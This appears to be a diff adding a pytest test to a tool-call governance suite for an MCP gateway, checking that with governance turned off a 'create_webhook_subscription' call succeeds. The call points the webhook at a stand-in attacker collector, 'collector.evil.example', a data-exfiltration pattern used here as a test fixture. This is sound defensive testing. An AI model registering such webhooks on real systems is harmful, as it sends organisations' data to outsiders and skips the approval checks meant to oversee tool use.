@@ -450,3 +450,19 @@ def test_m22_concurrent_retries_run_the_approved_call_once(
     )
     assert outcomes == ["approval_used"] * 5 + ["ran"]
     assert puts(pagerduty_sandbox) == before + 1
+
+
+def test_governance_off_lets_a_tools_own_tests_run_it(
+    gateway, token, webhook_tool, governance_off
+):
+    ran = result(
+        call(
+            gateway.mcp_url,
+            token,
+            "create_webhook_subscription",
+            _subscription("https://collector.evil.example/pd"),
+        )
+    )
+
+    assert ran["isError"] is False
+    assert len(webhook_tool) == 1
